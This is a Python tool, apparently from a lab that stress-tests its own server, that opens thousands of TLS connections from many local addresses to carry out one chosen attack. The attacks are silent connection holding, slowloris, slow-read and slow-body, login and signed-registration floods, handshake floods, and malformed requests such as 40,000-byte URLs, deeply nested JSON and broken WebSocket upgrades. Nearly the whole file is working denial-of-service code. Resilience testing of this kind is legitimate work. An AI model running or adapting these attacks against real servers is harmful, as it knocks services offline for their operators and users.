#!/usr/bin/python3
"""One attack on a server, from many addresses of this computer, until SIGTERM; what became of it as JSON at the end.

Prints "ready" when as many connections stand as are wanted, or when it cannot get more. All connections live in one
thread on one epoll, each as a generator that says what it waits for; the process stands back behind all others
(SCHED_IDLE), so that what is measured beside it is the server's work and not its own.
"""
import argparse
import base64
import collections
import contextlib
import heapq
import json
import os
import random
import re
import resource
import select
import signal
import socket
import ssl
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))

from lab.identity import Identity  # noqa: E402  (the path above is needed first)

READ, WRITE = select.EPOLLIN | select.EPOLLRDHUP, select.EPOLLOUT
OPEN_EVERY = 0.02  # seconds between looks at how many connections are missing
READY_SECONDS = 6.0
BODY = b"x" * 60000
SIGNED = 4  # registrations, for one that is not
JSON_HEAD = "POST {} HTTP/1.1\r\nHost: server\r\nContent-Type: application/json\r\nContent-Length: {}\r\n{}\r\n"
UPGRADE = ("GET /relay/{} HTTP/1.1\r\nHost: server\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: {}\r\n"
           "Sec-WebSocket-Version: {}\r\nSec-WebSocket-Protocol: higgs-relay.1\r\nAuthorization: Bearer {}\r\n\r\n")


def sleep(seconds):
    return ("sleep", seconds)


class Peer:
    """One connection; the methods are generators that yield what they wait for."""

    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE

    def __init__(self, source, target, small):
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
        if small:  # takes little, so that what the server sends stays with the server
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        # Ports are chosen for each destination, not for all: 10,000 of them are no problem.
        self.socket.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
        self.socket.bind((source, 0))
        self.socket.connect_ex(target)
        self.rest = b""

    def connected(self):
        yield WRITE
        if self.socket.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            raise ConnectionError("refused")

    def handshake(self):
        yield from self.connected()
        self.socket = self.context.wrap_socket(self.socket, do_handshake_on_connect=False)
        yield from self._tls(self.socket.do_handshake)

    def _tls(self, step, *arguments):
        while True:
            try:
                return step(*arguments)
            except ssl.SSLWantReadError:
                yield READ
            except ssl.SSLWantWriteError:
                yield WRITE

    def send(self, data):
        while data:
            sent = yield from self._tls(self.socket.send, data)
            data = data[sent:]

    def receive(self):
        block = yield from self._tls(self.socket.recv, 1 << 16)
        if not block:
            raise ConnectionError("closed")
        self.rest += block

    def answer(self):
        """Status and body of the next answer."""
        while b"\r\n\r\n" not in self.rest:
            yield from self.receive()
        head, self.rest = self.rest.split(b"\r\n\r\n", 1)
        length = re.search(rb"(?i)content-length: *(\d+)", head)
        wanted = int(length.group(1)) if length else 0
        while len(self.rest) < wanted:
            yield from self.receive()
        body, self.rest = self.rest[:wanted], self.rest[wanted:]
        return int(head.split(None, 2)[1]), body


def post(path, body, headers=None):
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    more = "".join(f"{name}: {value}\r\n" for name, value in (headers or {}).items())
    return JSON_HEAD.format(path, len(data), more).encode() + data


def word(count=12):
    return base64.b32encode(os.urandom(count)).decode().lower().rstrip("=")


class Attacks:
    """What each connection does. `count` of them at a time, at most `rate` new ones a second."""

    SIZES = {"silent": (10000, 4000), "slow-loris": (2000, 400), "slow-read": (1000, 300), "slow-body": (6000, 500), "logins": (256, 200),
             "registrations": (256, 200), "malformed": (256, 600), "handshakes": (256, 600)}

    def __init__(self, note, origin):
        self._note, self._origin = note, origin

    def silent(self, peer):
        yield from peer.connected()
        yield READ

    def slow_loris(self, peer):
        yield from peer.handshake()
        yield from peer.send(b"GET /healthz HTTP/1.1\r\nHost: server\r\n")
        while True:
            yield from peer.send(b"X")
            yield sleep(1)

    def slow_read(self, peer):
        yield from peer.handshake()
        yield from peer.send(b"GET /openapi.json HTTP/1.1\r\nHost: server\r\n\r\n" * 50)
        while True:
            yield sleep(1)
            yield from peer._tls(peer.socket.recv, 16)

    def slow_body(self, peer):
        yield from peer.handshake()
        yield from peer.send(JSON_HEAD.format("/api/v1/auth/login", len(BODY) + 100, "").encode() + BODY)
        while True:
            yield from peer.receive()  # a refusal, or the end

    def _ask(self, peer, path, body, headers=None):
        yield from peer.send(post(f"/api/v1/{path}", body, headers))
        status, answer = yield from peer.answer()
        self._note(status)
        return status, answer

    def logins(self, peer):
        yield from peer.handshake()
        while True:
            yield from self._ask(peer, "auth/login", {"username": word(), "password": word()})

    def registrations(self, peer):
        """Nodes that nobody has heard of, signed as they must be, which costs the server most; and what is cheap to refuse."""
        yield from peer.handshake()
        while True:
            for _ in range(SIGNED):
                status, answer = yield from self._ask(peer, "nodes/challenge", {})
                if status != 200:
                    break
                status, _ = yield from self._ask(peer, "nodes/register", *Identity().registration(self._origin, json.loads(answer)["nonce"]))
                if status == 200:
                    self._note("registered")
            yield from self._ask(peer, "nodes/register", {"nodeId": word(), "nonce": word(32)})
            yield from self._ask(peer, "auth/register", {"invite": word(), "username": word(), "password": word()})

    def handshakes(self, peer):
        yield from peer.handshake()

    def malformed(self, peer):
        choice = random.randrange(6)
        if choice == 0:  # no TLS at all, or a record that cannot be one
            yield from peer.connected()
            yield from peer.send(random.choice((b"GET / HTTP/1.1\r\n\r\n", b"\x16\x03\x01\x40\xff" + os.urandom(600), os.urandom(200))))
            yield READ
            return
        yield from peer.handshake()
        token = ".".join(word(20) for _ in range(3))
        yield from peer.send({1: os.urandom(500) + b"\r\n\r\n",
                              2: b"GET /" + b"a" * 40000 + b" HTTP/1.1\r\n\r\n",
                              3: post("/api/v1/auth/login", b'{"username":' + b"[" * 20000),
                              4: UPGRADE.format(word(), "no key", 7, token).encode(),
                              5: UPGRADE.format(word(), base64.b64encode(os.urandom(16)).decode(), 13, token).encode() + os.urandom(300)}[choice])
        status, _ = yield from peer.answer()
        self._note(status)


class Engine:
    def __init__(self, arguments):
        self._target = (arguments.server, arguments.port)
        self._sources = arguments.source
        self._answers = collections.Counter()
        attacks = Attacks(lambda what: self._answers.update([str(what)]), f"https://{arguments.server}:{arguments.port}")
        self._run_peer = getattr(attacks, arguments.attack.replace("-", "_"))
        self._count, self._rate = Attacks.SIZES[arguments.attack]
        self._count = min(self._count, arguments.count or self._count)
        self._small = arguments.attack == "slow-read"
        self._epoll = select.epoll()
        self._peers, self._sleepers, self._order = {}, [], 0
        self._opened = self._ended = self._most = 0
        self._stopping = self._ready = False
        signal.signal(signal.SIGTERM, self._stop)

    def _stop(self, *_):
        self._stopping = True

    def _open(self):
        peer = Peer(self._sources[self._opened % len(self._sources)], self._target, self._small)
        self._opened += 1
        number = peer.socket.fileno()
        self._peers[number] = (peer, self._run_peer(peer))
        self._epoll.register(number, 0)
        self._step(number)

    def _step(self, number):
        peer, run = self._peers[number]
        try:
            wanted = next(run)
        except (StopIteration, OSError, ValueError):
            self._ended += 1
            del self._peers[number]
            with contextlib.suppress(OSError):
                self._epoll.unregister(number)
            peer.socket.close()
            return
        if isinstance(wanted, tuple):
            self._order += 1
            heapq.heappush(self._sleepers, (time.monotonic() + wanted[1], self._order, number, peer))
            wanted = 0
        self._epoll.modify(number, wanted)

    def _wake(self, now):
        while self._sleepers and self._sleepers[0][0] <= now:
            _, _, number, peer = heapq.heappop(self._sleepers)
            if number in self._peers and self._peers[number][0] is peer:
                self._step(number)

    def run(self):
        begun = last = time.monotonic()
        budget = 0.0
        while not self._stopping:
            now = time.monotonic()
            budget, last = min(budget + (now - last) * self._rate, self._rate * 0.1), now
            while budget >= 1 and len(self._peers) < self._count:
                self._open()
                budget -= 1
            self._wake(now)
            self._most = max(self._most, len(self._peers))
            if not self._ready and (len(self._peers) >= self._count or now - begun > READY_SECONDS):
                self._ready = True
                print("ready", flush=True)
            for number, _ in self._epoll.poll(OPEN_EVERY):
                if number in self._peers:
                    self._step(number)
        used = resource.getrusage(resource.RUSAGE_SELF)
        seconds = time.monotonic() - begun
        print(json.dumps({"opened": self._opened, "ended": self._ended, "standing": len(self._peers), "most": self._most, "answers": dict(self._answers),
                          "seconds": round(seconds, 2), "cpu_share": round((used.ru_utime + used.ru_stime) / seconds, 3)}), flush=True)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--server", required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--source", action="append", required=True, help="an address of this computer; connections take turns")
    parser.add_argument("--attack", choices=Attacks.SIZES, required=True)
    parser.add_argument("--aside", action="store_true", help="stand back behind what is measured")
    parser.add_argument("--count", type=int, help="connections at a time, where fewer are wanted")
    arguments = parser.parse_args()
    if arguments.aside:
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    Engine(arguments).run()


if __name__ == "__main__":
    main()
